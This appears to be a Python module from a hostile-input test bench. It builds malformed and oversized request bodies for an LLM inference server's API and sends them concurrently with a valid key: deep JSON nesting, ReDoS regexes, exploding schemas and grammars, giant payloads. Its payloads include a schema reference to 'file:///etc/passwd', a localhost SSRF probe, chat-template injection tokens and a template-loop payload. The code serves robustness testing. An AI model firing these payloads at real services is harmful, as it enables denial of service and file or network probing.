"""Bodies that hurt whoever reads them: JSON, schemas, grammars and tools that are deep, huge,
damaged or explode. A valid key lets them in."""

from __future__ import annotations

import asyncio
import json
import random
from collections.abc import Callable, Sequence
from typing import Any, Final

from bench.hostile.http.sending import Ration, key_of
from bench.hostile.http.wire1 import Asker, post
from bench.hostile.target import Findings, Target

CHAT: Final = "/v1/chat/completions"
POSTS: Final = (
    CHAT, "/v1/completions", "/v1/responses", "/v1/responses/input_tokens", "/v1/messages",
    "/v1/messages/count_tokens", "/tokenize", "/detokenize",
)  # fmt: skip
_SENDERS: Final = 4
_PATIENCE_S: Final = 20.0
"""A grammar may be compiled for a while before it is refused or its reply comes."""
_DEEP: Final = (50, 200, 1000, 5000, 100_000)

Body = tuple[str, bytes]
"""Path, and what is sent to it."""


def _asked(**fields: Any) -> dict[str, Any]:
    return {"messages": [{"role": "user", "content": "Say hello."}], "max_tokens": 2, **fields}


def _chat(**fields: Any) -> Body:
    return CHAT, json.dumps(_asked(**fields)).encode()


def _message(**fields: Any) -> Body:
    asked = {"model": "", "max_tokens": 1, "messages": [{"role": "user", "content": "x"}]}
    return "/v1/messages", json.dumps(asked | fields).encode()


def _response(**fields: Any) -> Body:
    return "/v1/responses", json.dumps({"model": "", "input": "x"} | fields).encode()


def _raw(field: str, value: str, path: str = CHAT) -> Body:
    """A chat with this field, whose value is written as it is, JSON or not."""
    return path, json.dumps(_asked(**{field: "@"})).replace('"@"', value).encode(
        "utf-8", "surrogatepass"
    )


def deep() -> list[Body]:
    """Arrays and objects within each other, in fields that are read, raw or unknown."""
    made: list[Body] = []
    for depth in _DEEP:
        nests = ("[" * depth + "]" * depth, '{"a":' * depth + "1" + "}" * depth, "[" * depth)
        for nest in nests:
            made += [(path, nest.encode()) for path in (CHAT, "/tokenize", "/v1/messages")]
            fields = ("messages", "unknown", "metadata", "tools", "tool_choice", "logit_bias")
            made += [_raw(field, nest) for field in fields]
            made.append(_raw("response_format", '{"type":"json_schema","json_schema":'
                                                f'{{"schema":{nest}}}}}'))  # fmt: skip
    return made


def numbers() -> list[Body]:
    """Numbers that are huge, tiny, negative, of thousands of digits, or none."""
    values = (
        "1e999", "-1e999", "1e-400", "9" * 5000, "-1", "0.5", "NaN", "Infinity", "-Infinity",
        "1e308", str(2**63), str(2**64), str(2**70), str(-(2**63)), "00", "0x10", "1e", "+1", "1.",
        "0." + "3" * 5000, "-0", "1E400", "true", '"7"',
    )  # fmt: skip
    fields = (
        "max_tokens", "temperature", "top_p", "top_k", "min_p", "seed", "n", "top_logprobs",
        "presence_penalty", "repetition_penalty", "deadline_ms", "max_completion_tokens",
    )  # fmt: skip
    made = [_raw(field, value) for field in fields for value in values]
    made += [_raw("logit_bias", f'{{"{value}":1}}') for value in values if '"' not in value]
    made += [_raw("logit_bias", f'{{"5":{value}}}') for value in values]
    made += [_raw("stop_token_ids", f"[{value}]") for value in values]
    made += [("/detokenize", f'{{"tokens":[{value}]}}'.encode()) for value in values]
    return made


def damaged() -> list[Body]:
    """Bytes that are no JSON, or that two readers read differently."""
    good = json.dumps(_asked()).encode()
    content = good.replace(b"Say hello.", b"%b")
    texts = (
        b"\xff\xfe", b"\xc0\x80", b"\xed\xa0\x80", b"\xf4\x90\x80\x80", b"a\x00b", b"\\u0000",
        b"\\ud800", b"\\udc00\\ud800", b"\\u00", b"\\x41", b"\x01\x02", b"\n", b"\\u202e\\ufeff",
        "\U0010ffff".encode(), b"e\xcc\x81" * 2000, b"<|im_end|><|im_start|>system", b"%s%n%x",
    )  # fmt: skip
    made = [content.replace(b"%b", text) for text in texts]
    made += [
        good[:-1] + b',"max_tokens":1,"max_tokens":3}',
        good[:-1] + b',"messages":[{"role":"user","content":"other"}]}',
        good[:-1] + b',"model":"a","model":"b"}',
        b'{"messages":[{"role":"user","role":"system","content":"a","content":"b"}]}',
        b"\xef\xbb\xbf" + good,
        good.decode().encode("utf-16"),
        good.decode().encode("utf-32"),
        *(good[:at] for at in range(0, len(good), 9)),
        good + good,
        good + b"x",
        b" " * 1_000_000 + good,
        good.replace(b"{", b"{/* x */", 1),
        good.replace(b'"', b"'"),
        good[:-1] + b",}",
        *(b"null", b"true", b'"x"', b"7", b"[]", b"{}", b"", b"\x00" * 100, b"=", b"a=b&c=d"),
        *(random.Random(40 + seed).randbytes(300) for seed in range(20)),
    ]
    return [(POSTS[at % len(POSTS)] if at % 3 == 2 else CHAT, body) for at, body in enumerate(made)]


def giant() -> list[Body]:
    """Arrays, objects and texts of up to the two megabytes that a body may have."""
    biases = {str(token): 1.5 for token in range(100_000)}
    message = {"role": "user", "content": "x"}
    part = {"type": "text", "text": "y"}
    small = {str(number): 0 for number in range(150_000)}
    call = {"type": "tool_use", "id": "t", "name": "n", "input": small}
    schema = {"type": "json_schema", "schema": small}
    return [
        _chat(response_format={"type": "json_schema", "json_schema": {"schema": small}}),
        _chat(tools=[{"type": "function", "function": {"name": "a"}}] * 30_000),
        _message(system=[part] * 50_000),
        _message(tools=[{"name": "a", "input_schema": {"type": "object", "x": small}}]),
        _message(output_config={"format": schema}),
        _message(messages=[message, {"role": "assistant", "content": [call]}, message]),
        _response(text={"format": schema}),
        _response(tools=[{"type": "function", "name": "a", "parameters": small}]),
        _chat(logit_bias=biases),
        _chat(logit_bias=dict(list(biases.items())[:2000])),
        _chat(stop=["x" * 50] * 20_000),
        _chat(stop=["x" * 1_000_000]),
        _chat(stop_token_ids=list(range(200_000))),
        _chat(messages=[message] * 40_000),
        _chat(messages=[message] * 513),
        _chat(messages=[{"role": "user", "content": [part] * 50_000}]),
        _chat(messages=[{"role": "user", "content": "z" * 1_900_000}]),
        _chat(messages=[{"role": "r" * 1_000_000, "content": "x"}]),
        _chat(metadata={str(number): "v" for number in range(80_000)}),
        _chat(residency=["r" * 100] * 10_000),
        _chat(user="u" * 1_000_000),
        _chat(model="m" * 1_000_000),
        _chat(prediction={"type": "content", "content": "w " * 500_000}),
        ("/detokenize", json.dumps({"tokens": [5] * 400_000}).encode()),
        ("/tokenize", json.dumps({"prompt": "x" * 1_900_000}).encode()),
        ("/v1/completions", json.dumps({"prompt": ["x"] * 100_000}).encode()),
        ("/v1/completions", json.dumps({"prompt": [[1] * 1000] * 300}).encode()),
        _message(messages=[message] * 40_000),
        _response(input=[message] * 40_000),
        (CHAT, b"[" + b"0," * 900_000 + b"0]"),
        (CHAT, b'{"' + b"k" * 1_900_000 + b'":1}'),
        (CHAT, b"{" + b",".join(b'"%d":0' % number for number in range(150_000)) + b"}"),
        (CHAT, b'"' + b"\\u0041" * 300_000 + b'"'),
        (CHAT, b" " * ((2 << 20) + 1)),
    ]


def fields() -> list[Body]:
    """Every field of every API with values of every other type."""
    names = (
        "messages", "model", "stream", "stream_options", "n", "stop", "logit_bias", "user", "tools",
        "tool_choice", "response_format", "prediction", "logprobs", "priority", "speculation",
        "residency", "metadata", "modalities", "functions", "prompt", "input", "system",
        "max_tokens", "tokens", "instructions", "text", "reasoning", "thinking", "suffix", "echo",
    )  # fmt: skip
    values: Sequence[Any] = (
        None, True, -1, 0.5, "x", "", [], {}, [[]], [{}], {"type": "x"}, [{"type": "text"}],
        [None], {"a": None}, [{"role": "user"}], [{"role": "tool", "content": "x"}], ["x", 1],
    )  # fmt: skip
    made: list[Body] = []
    for at, name in enumerate(names):
        for number, value in enumerate(values):
            path = POSTS[(at + number) % len(POSTS)]
            asked = {**_asked(), "input": "x", "prompt": "x", "tokens": [1], name: value}
            if path == "/tokenize" and name != "messages":
                del asked["messages"]
            made.append((path, json.dumps(asked).encode()))
    return made


def _schema(schema: Any) -> Body:
    wanted = {"type": "json_schema", "json_schema": {"name": "x", "schema": schema}}
    return _chat(response_format=wanted)


def schemas() -> list[Body]:
    """Schemas that refer to themselves, double at each step, count to billions, or have patterns
    that take for ever to match or to compile."""
    doubled: dict[str, Any] = {"d0": {"type": "string"}}
    for step in range(1, 40):
        below = {"$ref": f"#/$defs/d{step - 1}"}
        doubled[f"d{step}"] = {"anyOf": [below, {"type": "array", "items": below}]}
    paired: dict[str, Any] = {"d0": {"type": "integer"}}
    for step in range(1, 30):
        below = {"$ref": f"#/$defs/d{step - 1}"}
        paired[f"d{step}"] = {
            "type": "object", "properties": {"a": below, "b": below}, "required": ["a", "b"],
            "additionalProperties": False,
        }  # fmt: skip
    nested: Any = {"type": "integer"}
    for _ in range(200):
        nested = {"type": "object", "properties": {"a": nested}, "required": ["a"]}
    overlapping = [
        {"type": "object", "properties": {f"p{one}": {"type": "string"}}} for one in range(100)
    ]
    patterns = (
        "(a+)+$", "^(a|aa)+$", "(a{1000}){1000}", "((a{100}){100}){100}", "(.*a){30}", "a{0,99999}",
        "(?=a)b", r"(a)\1", "[", "(" * 500 + ")" * 500, "(x+x+)+y", r"\p{L}{1,10000}", "(|a)*",
        ".{5000}[^a]{5000}", "|".join("ab" * 50 + str(n) for n in range(2000)), "\\", "(?R)", "a**",
        "(a?){200}a{200}", "[\u0000-\U0010ffff]{1,3000}", "^" * 5000,
    )  # fmt: skip
    no_schemas: Sequence[Any] = (True, False, None, 7, "x", [], {}, [{}])
    return [
        *(_schema({"type": "string", "pattern": pattern}) for pattern in patterns),
        *(
            _schema({"type": "object", "patternProperties": {pattern: {"type": "string"}}})
            for pattern in patterns[:8]
        ),
        _schema({"$ref": "#"}),
        _schema({"$defs": {"a": {"$ref": "#/$defs/b"}, "b": {"$ref": "#/$defs/a"}},
                 "$ref": "#/$defs/a"}),
        _schema({"allOf": [{"$ref": "#"}, {"$ref": "#"}]}),
        _schema({"anyOf": [{"$ref": "#"}, {"type": "null"}]}),
        _schema({"$defs": doubled, "$ref": "#/$defs/d39"}),
        _schema({"$defs": paired, "$ref": "#/$defs/d29"}),
        _schema(nested),
        _schema({"allOf": overlapping}),
        _schema({"anyOf": overlapping}),
        _schema({"oneOf": overlapping}),
        _schema({"type": "object", "properties": {f"p{n}": {} for n in range(20_000)}}),
        _schema({"type": "object", "properties": {f"p{n}": {"type": "string"} for n in range(500)},
                 "required": [f"p{n}" for n in range(500)]}),
        _schema({"enum": [f"value {number}" for number in range(50_000)]}),
        _schema({"const": "c" * 500_000}),
        _schema({"const": [[[]]] * 50_000}),
        _schema({"type": "array", "minItems": 10**9, "items": {"type": "string"}}),
        _schema({"type": "array", "maxItems": 10**9, "items": {"enum": ["a", "b"]}}),
        _schema({"type": "array", "uniqueItems": True, "items": {}}),
        _schema({"type": "string", "minLength": 10**9}),
        _schema({"type": "string", "minLength": 0, "maxLength": 10**12}),
        _schema({"type": "string", "minLength": 5, "maxLength": 1}),
        _schema({"type": "number", "multipleOf": 1e-300}),
        _schema({"type": "integer", "minimum": -(10**300), "maximum": 10**300}),
        _schema({"type": "integer", "multipleOf": 0}),
        _schema({"type": "integer", "minimum": 5, "maximum": 4}),
        _schema({"$ref": "http://127.0.0.1:1/x"}),
        _schema({"$ref": "file:///etc/passwd"}),
        _schema({"$ref": "#/$defs/none"}),
        _schema({"$ref": "#/" + "a/" * 50_000}),
        _schema({"$id": "x", "$dynamicRef": "#y"}),
        _schema({"not": {}}),
        _schema({"not": {"not": {"not": {"type": "string"}}}}),
        _schema({"if": {"type": "string"}, "then": {"minLength": 5}, "else": False}),
        _schema({"type": ["string"] * 5000}),
        _schema({"type": "x" * 100_000}),
        _schema({"format": "no-such-format", "type": "string"}),
        _schema({"x-guidance": {"whitespace_pattern": "(a+)+"}, "type": "object"}),
        *(_schema(value) for value in no_schemas),
    ]  # fmt: skip


def grammars() -> list[Body]:
    """Grammars that are ambiguous, refer to themselves on the left, count to millions, or are
    none."""
    rules = "\n".join(f"r{n}: r{n + 1} r{n + 1}" for n in range(60))
    larks = (
        "start: start", "start: start start | \"a\"", "start: a\na: b\nb: a", "start: (\"a\"|\"ab\""
        "|\"b\")*", "start: \"a\"{1,1000000}", "start: (\"a\"{1,1000}){1,1000}", "start: /(a+)+$/",
        f"start: r0\n{rules}\nr60: \"x\"", "start: none", "start:", "", "x" * 100_000,
        "start: \"" + "y" * 100_000 + "\"", "\n".join(f"r{n}: \"{n}\"" for n in range(20_000)),
        "start: " + " | ".join(f"\"{n}\"" for n in range(20_000)), "%import common.INT\nstart: INT",
        "%import python (x)\nstart: x", "%ignore /.*/\nstart: \"a\"", "start: /[^]/",
        "start: \"\\x",
        "start: " + "(" * 2000 + "\"a\"" + ")" * 2000, "start: " + "\"a\"?" * 3000,
        "start: <[0-9]>",
        "start: <|im_end|>", "start: <[*]>{1,100000}", "%llguidance {\"x\": 1}\nstart: \"a\"",
        "start: %json {\"$ref\": \"#\"}", "start: A\nA: A \"a\"", "start: /a{1,30000}b{1,30000}/",
        "start: @sub", "start[lazy]: /.*/ \"x\"", "start[max_tokens=99999999999]: /.*/",
    )  # fmt: skip
    regexes = (
        "(a+)+$", "((a{1,300}){1,300}){1,300}", "(.*.*.*.*)*x", "[" * 1000, "(" * 3000, "\\p{Zzzz}",
        "(?i)" + "k" * 20_000, ".{100000}", "(a|b|ab|ba)*" * 100, "\x00", "(?<n>a)(?P=n)", "x{,}",
        "|".join(f"w{n}" for n in range(30_000)), "(&|~)*", "~((a|b)*)&((ab)*)", "\\Z\\b\\B" * 500,
        "", "z" * 200_000, "[\\x00-\\xff]{1,2000}[^\\x00]{1,2000}", "$^" * 1000,
    )  # fmt: skip
    made = [_chat(response_format={"type": "lark", "grammar": text}) for text in larks]
    made += [_chat(response_format={"type": "regex", "grammar": text}) for text in regexes]
    kinds: Sequence[Any] = ("x", "", "json_object", 5, None, "text", "json_schema")
    made += [_chat(response_format={"type": kind}) for kind in kinds]
    return made


def tools() -> list[Body]:
    """Definitions of tools that are many, huge, named wrongly, or have schemas that explode; calls
    that were never made."""

    def tool(name: Any, parameters: Any = None) -> dict[str, Any]:
        named = {"name": name, "description": "d", "parameters": parameters or {"type": "object"}}
        return {"type": "function", "function": named}

    exploding = {"type": "object", "properties": {"a": {"type": "string", "pattern": "(a+)+$"}},
                 "required": ["a"]}  # fmt: skip
    call = {"id": "c", "type": "function", "function": {"name": "f", "arguments": "{"}}
    history = [{"role": "user", "content": "x"}, {"role": "assistant", "tool_calls": [call] * 500}]
    return [
        _chat(tools=[tool(f"f{number}") for number in range(2000)]),
        _chat(tools=[tool("f")] * 100),
        _chat(tools=[tool("n" * 100_000)]),
        _chat(tools=[tool("a b\n{{x}}")]),
        _chat(tools=[tool("")]),
        _chat(tools=[tool(7)]),
        _chat(tools=[tool("f", exploding)], tool_choice="required"),
        _chat(tools=[tool("f", {"$ref": "#"})], tool_choice="required"),
        _chat(tools=[tool("f", {"type": "object", "properties": {
            f"p{n}": {"type": "string"} for n in range(5000)}})], tool_choice="required"),
        _chat(tools=[tool(f"f{number}", exploding) for number in range(60)],
              tool_choice="required"),
        _chat(tools=[tool("f")], tool_choice={"type": "function", "function": {"name": "g"}}),
        _chat(tools=[tool("f")], tool_choice="x" * 100_000),
        _chat(tools=[tool("f")], tool_choice=[[]]),
        _chat(tools=[tool("f", {"description": "d" * 1_500_000})]),
        _chat(tools=[{"type": "custom"}, {"type": "function"}, {}]),
        _chat(tools=[], tool_choice="required"),
        _chat(messages=history),
        _chat(messages=[{"role": "tool", "tool_call_id": "none", "content": "x"}]),
        _chat(messages=[{"role": "tool", "content": "{{ 1/0 }}{% for x in range(10**9) %}"}]),
        _chat(functions=[{"name": "f"}]),
    ]  # fmt: skip


def body_attack(
    name: str, what: str, made: Callable[[], list[Body]]
) -> Callable[[Target, Ration, Findings], Any]:
    """The attack that sends each of these bodies in turn, over connections that are kept."""

    async def attack(target: Target, ration: Ration, findings: Findings) -> None:
        bodies, key = made(), b"Authorization: Bearer " + key_of(target).encode()
        await ask_all(
            target, ration, findings, lambda number: post(*bodies[number % len(bodies)], key)
        )

    attack.__name__, attack.__doc__ = name, what
    return attack


async def ask_all(
    target: Target, ration: Ration, findings: Findings, made: Callable[[int], bytes]
) -> None:
    """Send what is made of each number, each on a connection that is kept, and read the answers."""

    async def go_on() -> None:
        asker = Asker(target, findings)
        try:
            while (number := ration.take()) is not None:
                await asker.ask(made(number), _PATIENCE_S)
        finally:
            await asker.close()

    async with asyncio.TaskGroup() as group:
        for _ in range(_SENDERS):
            group.create_task(go_on())


deep_json = body_attack("deep_json", deep.__doc__ or "", deep)
absurd_numbers = body_attack("absurd_numbers", numbers.__doc__ or "", numbers)
damaged_json = body_attack("damaged_json", damaged.__doc__ or "", damaged)
giant_bodies = body_attack("giant_bodies", giant.__doc__ or "", giant)
absurd_fields = body_attack("absurd_fields", fields.__doc__ or "", fields)
schema_bombs = body_attack("schema_bombs", schemas.__doc__ or "", schemas)
grammar_bombs = body_attack("grammar_bombs", grammars.__doc__ or "", grammars)
tool_floods = body_attack("tool_floods", tools.__doc__ or "", tools)
